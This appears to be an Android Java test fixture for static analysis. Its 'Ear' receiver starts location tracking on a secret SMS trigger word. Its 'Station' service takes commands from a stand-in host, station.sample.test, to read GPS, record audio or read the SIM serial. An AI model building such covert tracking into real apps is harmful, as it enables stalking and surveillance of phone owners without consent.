package org.example;

import android.app.Activity;
import android.app.Service;
import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.content.SharedPreferences;
import android.location.LocationManager;
import android.media.MediaRecorder;
import android.os.Bundle;
import android.os.IBinder;
import android.telephony.SmsManager;
import android.telephony.SmsMessage;
import android.telephony.TelephonyManager;
import com.google.gson.Gson;
import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.net.Socket;
import java.util.HashMap;
import java.util.Map;

/** Commands that no constant in the comparing method tells; by javac and d8. */
public class Levers {

  enum Order {
    PLACE,
    SOUND,
    CARD
  }

  interface Lever {
    void pull(Context context);
  }

  static class PlaceLever implements Lever {
    @Override
    public void pull(Context context) {
      ((LocationManager) context.getSystemService("location")).getLastKnownLocation("gps");
    }
  }

  static class SoundLever implements Lever {
    @Override
    public void pull(Context context) {
      MediaRecorder recorder = new MediaRecorder();
      recorder.setAudioSource(1);
      recorder.start();
    }
  }

  static class Told {
    String action;

    String getAction() {
      return action;
    }
  }

  static void card(Context context) {
    ((TelephonyManager) context.getSystemService("phone")).getSimSerialNumber();
  }

  /** Compares a text message with the word that its holder has set, and starts a service. */
  public static class Ear extends BroadcastReceiver {
    static String word;

    @Override
    public void onReceive(Context context, Intent intent) {
      SharedPreferences kept = context.getSharedPreferences("settings", 0);
      word = kept.getString("magic", "");
      for (Object one : (Object[]) intent.getExtras().get("pdus")) {
        String body = SmsMessage.createFromPdu((byte[]) one).getMessageBody();
        if (body.toUpperCase().equals(word.toUpperCase())) {
          context.startService(new Intent(context, Follow.class));
          break;
        }
      }
    }
  }

  /** Reads the position and sends it. */
  public static class Follow extends Service {
    @Override
    public int onStartCommand(Intent intent, int flags, int id) {
      ((LocationManager) getSystemService("location")).getLastKnownLocation("gps");
      SmsManager.getDefault().sendTextMessage("1", null, "here", null, null);
      return START_NOT_STICKY;
    }

    @Override
    public IBinder onBind(Intent intent) {
      return null;
    }
  }

  /** Obeys what comes in a connection: by a value of an enum, a map of levers, a record. */
  public static class Station extends Service {
    private final Map<String, Lever> levers = new HashMap<>();

    @Override
    public void onCreate() {
      levers.put("where", new PlaceLever());
      levers.put("listen", new SoundLever());
    }

    @Override
    public int onStartCommand(Intent intent, int flags, int id) {
      try {
        Socket socket = new Socket("station.sample.test", 4000);
        BufferedReader in = new BufferedReader(new InputStreamReader(socket.getInputStream()));
        byValue(in.readLine());
        byMap(in.readLine());
        byRecord(in.readLine());
      } catch (Exception broken) {
        stopSelf();
      }
      return START_STICKY;
    }

    void byValue(String line) {
      switch (Order.valueOf(line)) {
        case PLACE:
          new PlaceLever().pull(this);
          break;
        case SOUND:
          new SoundLever().pull(this);
          break;
        case CARD:
          card(this);
          break;
        default:
          break;
      }
    }

    void byMap(String line) {
      Lever lever = levers.get(line);
      if (lever != null) {
        lever.pull(this);
      }
    }

    void byRecord(String line) {
      Told told = new Gson().fromJson(line, Told.class);
      if ("sim".equals(told.getAction())) {
        card(this);
      } else if ("room".equals(told.getAction())) {
        new SoundLever().pull(this);
      }
    }

    @Override
    public IBinder onBind(Intent intent) {
      return null;
    }
  }

  /** What the holder of the phone chose decides, by the same means: no command. */
  public static class Main extends Activity {
    private final Map<String, Lever> chosen = new HashMap<>();

    @Override
    public void onCreate(Bundle state) {
      chosen.put("where", new PlaceLever());
      chosen.put("listen", new SoundLever());
      SharedPreferences kept = getSharedPreferences("settings", 0);
      Lever lever = chosen.get(kept.getString("lever", ""));
      if (lever != null) {
        lever.pull(this);
      }
      if (kept.getString("pin", "").equals(kept.getString("again", ""))) {
        card(this);
      }
      switch (Order.valueOf(kept.getString("order", ""))) {
        case PLACE:
          new PlaceLever().pull(this);
          break;
        case SOUND:
          new SoundLever().pull(this);
          break;
        case CARD:
          card(this);
          break;
        default:
          break;
      }
    }
  }
}
